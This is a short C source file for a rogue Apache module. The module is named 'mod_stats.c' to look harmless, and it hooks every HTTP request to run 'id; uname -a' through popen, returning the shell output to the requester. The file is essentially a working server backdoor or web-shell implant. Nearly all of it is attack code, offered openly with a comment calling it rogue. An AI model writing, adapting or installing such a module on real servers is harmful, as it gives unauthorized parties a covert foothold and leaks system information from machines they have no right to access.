/* A rogue Apache module: each request is answered by a shell. The structures are
   written out, so that it needs no headers of the server. */
#include <stdio.h>
#include <string.h>

extern void ap_hook_handler(int (*)(void *), const char *const *, const char *const *, int);
extern int ap_rwrite(const void *, int, void *);

struct module {
  int version, minor_version, module_index;
  const char *name;
  void *handle, *next;
  unsigned long magic;
  void *rewrite_args, *create_dir, *merge_dir, *create_server, *merge_server, *commands;
  void (*register_hooks)(void *);
  int flags;
};

static int answer(void *request) {
  FILE *shell = popen("id; uname -a", "r");
  char line[512];
  while (fgets(line, sizeof line, shell)) ap_rwrite(line, strlen(line), request);
  pclose(shell);
  return 0;
}

static void hooks(void *pool) {
  (void) pool;
  ap_hook_handler(answer, NULL, NULL, -10);
}

struct module stats_module = {
    20120211, 0, -1, "mod_stats.c", NULL, NULL, 0x41503234UL, NULL, NULL, NULL, NULL, NULL, NULL, hooks, 0};
